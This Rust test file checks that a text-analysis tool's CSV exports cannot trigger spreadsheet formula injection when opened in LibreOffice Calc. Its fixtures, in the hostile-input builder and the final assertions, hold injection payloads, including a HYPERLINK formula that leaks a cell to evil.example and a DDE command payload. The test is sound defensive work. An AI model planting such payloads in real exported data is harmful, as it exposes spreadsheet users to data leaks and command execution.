//! CSV output opened in a real spreadsheet. A hostile corpus (ids, outlets, titles, article
//! text, lexicon names, poles and notes that start with `=`, `+`, `-`, `@`, tab or CR) goes
//! through every command that writes CSV; LibreOffice Calc (headless, `soffice` from the
//! Debian package `libreoffice-calc-nogui`) converts each file to flat ODS, and the test
//! checks that no cell became a formula, every text cell shows exactly what framelens wrote,
//! and numbers stay numbers. A control file with a bare `=1+1` proves the conversion does
//! evaluate formulas, so the check can fail.
//!
//! Without `soffice` the test is skipped with a message, unless `CI` is set, when it fails.

use crate::util::{ok, tmp};
use regex::Regex;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

fn soffice_available() -> bool {
    Command::new("soffice")
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// Articles, a CSV corpus and a lexicon whose every visible field tries to be a formula.
fn hostile_inputs(dir: &Path) -> (String, String) {
    let corpus = dir.join("corpus");
    std::fs::create_dir_all(&corpus).expect("corpus dir");
    let write = |name: &str, text: &str| std::fs::write(corpus.join(name), text).expect("write");
    write(
        "a.txt",
        "outlet: =HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")\n\
         date: 2024-03-11\n\
         title: =1+1\n---\n\
         =1+1 Armenian forces occupied the border villages on Monday, officials said.\n\n\
         @SUM(1,1) The conflict began in 1988 and the OSCE Minsk Group has mediated since 1992.\n",
    );
    // JSON keeps a leading tab or CR in a field, which a text header would trim.
    write(
        "b.jsonl",
        concat!(
            r#"{"id":"-2+3","outlet":"+cmd|' /C calc'!A0","date":"2024-03-12","title":"\t=1+1","#,
            r#""text":"-1+1 Azerbaijani forces liberated the villages near the border on Monday, "#,
            r#"the ministry said.\n\n+1+1 The conflict began in 1988 and the OSCE Minsk Group "#,
            r#"has mediated since 1992."}"#,
            "\n",
            r#"{"id":"@x","outlet":"@SUM(1,1)","date":"2024-03-12","title":"\r=1+1","#,
            r#""text":"\t=2+2 Troops occupied Khankendi, the ministry said."}"#,
            "\n"
        ),
    );
    write(
        "c.csv",
        "id,outlet,date,title,text\n\
         =cmd,-Evil Daily,2024-03-13,@title,\"=3+3 Azerbaijani troops liberated the town, the ministry said.\"\n",
    );
    let lexicon = dir.join("hostile_lexicon.csv");
    std::fs::write(
        &lexicon,
        "#name: =evil\n#poles: +a,-b,@n\n#axis: -b,+a\nterm,concept,pole,note\n\
         occupied,\"=HYPERLINK(\"\"http://evil.example\"\")\",+a,@SUM(1)\n\
         liberat*,-cmd,-b,=1+1\n",
    )
    .expect("write lexicon");
    (corpus.display().to_string(), lexicon.display().to_string())
}

/// One cell of a converted sheet.
#[derive(Debug)]
struct Sheet {
    kind: String,
    value: Option<String>,
    text: String,
    formula: Option<String>,
}

fn unescape(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&#9;", "\t")
        .replace("&#13;", "\r")
        .replace("&#10;", "\n")
        .replace("&amp;", "&")
}

/// Rows of cells of the first table in a flat ODS document.
fn sheet_rows(xml: &str) -> Vec<Vec<Sheet>> {
    let row = Regex::new(r"(?s)<table:table-row\b[^>]*?(?:/>|>(.*?)</table:table-row>)").unwrap();
    let cell =
        Regex::new(r"(?s)<table:table-cell\b([^>]*?)(?:/>|>(.*?)</table:table-cell>)").unwrap();
    let attr = |attrs: &str, name: &str| {
        Regex::new(&format!(r#"\b{name}="([^"]*)""#))
            .unwrap()
            .captures(attrs)
            .map(|c| unescape(&c[1]))
    };
    let spaces = Regex::new(r#"<text:s(?: text:c="(\d+)")?/>"#).unwrap();
    let tags = Regex::new(r"<[^>]*>").unwrap();
    // Only paragraph content is cell text: the flat XML is indented between elements.
    let para = Regex::new(r"(?s)<text:p\b[^>]*?(?:/>|>(.*?)</text:p>)").unwrap();
    let text_of = |inner: &str| {
        let paras: Vec<String> = para
            .captures_iter(inner)
            .map(|p| {
                let t = spaces.replace_all(
                    p.get(1).map_or("", |m| m.as_str()),
                    |c: &regex::Captures| {
                        " ".repeat(c.get(1).map_or(1, |n| n.as_str().parse().unwrap()))
                    },
                );
                let t = t.replace("<text:tab/>", "\t").replace("<text:line-break/>", "\n");
                unescape(&tags.replace_all(&t, ""))
            })
            .collect();
        paras.join("\n")
    };
    row.captures_iter(xml)
        .map(|r| {
            let mut cells = Vec::new();
            for c in cell.captures_iter(r.get(1).map_or("", |m| m.as_str())) {
                let attrs = &c[1];
                let repeat: usize =
                    attr(attrs, "table:number-columns-repeated").map_or(1, |n| n.parse().unwrap());
                for _ in 0..repeat.min(64) {
                    cells.push(Sheet {
                        kind: attr(attrs, "office:value-type").unwrap_or_default(),
                        value: attr(attrs, "office:value"),
                        text: text_of(c.get(2).map_or("", |m| m.as_str())),
                        formula: attr(attrs, "table:formula"),
                    });
                }
            }
            cells
        })
        .collect()
}

/// Runs LibreOffice on `files`, writing `<stem>.fods` into `out`; gives up after 3 minutes.
fn convert(files: &[PathBuf], out: &Path, home: &Path) {
    std::fs::create_dir_all(home).expect("home");
    // A private profile: parallel tests (and a user's running LibreOffice) do not clash.
    let profile = format!("-env:UserInstallation=file://{}", home.join("profile").display());
    let log = home.join("soffice.log");
    let mut child = Command::new("soffice")
        // Comma-separated, double quotes, UTF-8 (76): what a user picks in the import dialog.
        .args(["--headless", "--norestore", &profile, "--infilter=CSV:44,34,76"])
        .args(["--convert-to", "fods", "--outdir"])
        .arg(out)
        .args(files)
        .env("HOME", home)
        .stdout(Stdio::from(std::fs::File::create(&log).expect("log")))
        .stderr(Stdio::from(std::fs::File::create(home.join("soffice.err")).expect("log")))
        .spawn()
        .expect("soffice starts");
    let start = Instant::now();
    while child.try_wait().expect("wait").is_none() {
        if start.elapsed() > Duration::from_secs(180) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("soffice did not finish within three minutes");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn squash(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn is_iso_date(s: &str) -> bool {
    s.len() == 10
        && s.bytes()
            .enumerate()
            .all(|(i, b)| if i == 4 || i == 7 { b == b'-' } else { b.is_ascii_digit() })
}

#[test]
fn csv_opened_in_libreoffice_runs_no_formula() {
    if !soffice_available() {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI is set but soffice is missing: install libreoffice-calc-nogui (see .ci/run)"
        );
        eprintln!("skipped: soffice not found (Debian: apt-get install libreoffice-calc-nogui)");
        return;
    }
    let dir = tmp();
    let (corpus, lexicon) = hostile_inputs(dir.path());
    let csv_dir = dir.path().join("csv");
    std::fs::create_dir_all(&csv_dir).expect("csv dir");
    let runs: &[(&str, &[&str])] = &[
        ("corpus", &["corpus"]),
        ("score", &["score"]),
        ("score_doc_hostile_lexicon", &["score", "--by", "doc", "--lexicon", &lexicon]),
        ("kwic", &["kwic", "occupied"]),
        ("kwic_hits", &["kwic", "--lexicon-hits", "--lexicon", &lexicon]),
        ("compare", &["compare", "--lexicon", &lexicon, "--bom"]),
        ("align_passage", &["align", "--level", "passage"]),
        ("align_story", &["align", "--level", "story"]),
        ("lexicon_show", &["lexicon", "show", &lexicon]),
    ];
    let mut files = Vec::new();
    for (name, args) in runs {
        let path = csv_dir.join(format!("{name}.csv"));
        let mut a: Vec<&str> = args.to_vec();
        if a[0] != "lexicon" {
            a.push(&corpus);
        }
        let p = path.display().to_string();
        a.extend(["--format", "csv", "-q", "-o", &p]);
        ok(&a);
        files.push(path);
    }
    let control = csv_dir.join("control.csv");
    std::fs::write(&control, "text,n\n=1+1,3\n").expect("control");
    files.push(control);
    let out = dir.path().join("ods");
    convert(&files, &out, &dir.path().join("home"));

    let Ok(control) = std::fs::read_to_string(out.join("control.fods")) else {
        // soffice without Calc (libreoffice-core alone) converts nothing.
        let log = std::fs::read_to_string(dir.path().join("home/soffice.err")).unwrap_or_default();
        assert!(
            std::env::var_os("CI").is_none(),
            "LibreOffice converted nothing; is Calc (libreoffice-calc-nogui) installed? Log:\n{log}"
        );
        eprintln!("skipped: soffice converted nothing (install libreoffice-calc-nogui):\n{log}");
        return;
    };
    assert!(
        sheet_rows(&control)[1][0].formula.is_some(),
        "the control's bare =1+1 must be evaluated, or this test proves nothing"
    );
    let mut shown = Vec::new();
    for (name, _) in runs {
        let fods = out.join(format!("{name}.fods"));
        let xml = std::fs::read_to_string(&fods)
            .unwrap_or_else(|e| panic!("{name}: LibreOffice wrote no {}: {e}", fods.display()));
        assert!(!xml.contains("table:formula"), "{name}: a cell became a formula");
        let csv_text = std::fs::read_to_string(csv_dir.join(format!("{name}.csv"))).unwrap();
        let mut rdr = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv_text.trim_start_matches('\u{FEFF}').as_bytes());
        let records: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
        let rows = sheet_rows(&xml);
        assert_eq!(rows.len(), records.len(), "{name}: rows");
        assert!(records.len() > 1, "{name}: no data rows");
        let mut floats = 0;
        for (i, (rec, row)) in records.iter().zip(&rows).enumerate() {
            for (j, v) in rec.iter().enumerate() {
                let at = format!("{name}.csv row {} column {}", i + 1, j + 1);
                let Some(c) = row.get(j) else {
                    assert!(v.is_empty(), "{at}: {v:?} missing from the sheet");
                    continue;
                };
                assert!(c.formula.is_none(), "{at}: formula {:?}", c.formula);
                if v.is_empty() {
                    continue;
                }
                if v.parse::<f64>().is_ok_and(f64::is_finite) {
                    assert_eq!(c.kind, "float", "{at}: {v:?} is not a number in the sheet");
                    let x: f64 = c.value.as_deref().unwrap_or("").parse().unwrap();
                    assert!((x - v.parse::<f64>().unwrap()).abs() < 1e-9, "{at}: {x} != {v}");
                    floats += 1;
                } else if is_iso_date(v) {
                    assert_eq!(c.kind, "date", "{at}: {v:?}");
                } else {
                    assert_eq!(c.kind, "string", "{at}: {v:?} became {}", c.kind);
                    assert_eq!(squash(&c.text), squash(v), "{at}: shown differently");
                    shown.push(c.text.clone());
                }
            }
        }
        assert!(floats > 0, "{name}: no numeric cell to check");
    }
    for payload in [
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1",
        "'=1+1",
        "'@SUM(1,1)",
        "'-2+3",
        "'+cmd|' /C calc'!A0",
        "'-1+1 Azerbaijani",
        "'+1+1 The conflict",
        "'=2+2 Troops",
        "'=cmd",
        "'-Evil Daily",
        "'@title",
        "'=evil",
        "'+a",
        "'-b",
        "'=HYPERLINK(\"http://evil.example\")",
        "'@SUM(1)",
        "'\t=1+1",
    ] {
        assert!(shown.iter().any(|s| s.starts_with(payload)), "{payload:?} never shown as text");
    }
    assert!(
        shown.iter().any(|s| s.starts_with("'\r") || s.starts_with("'\n")),
        "the title that starts with CR is neutralised"
    );
}
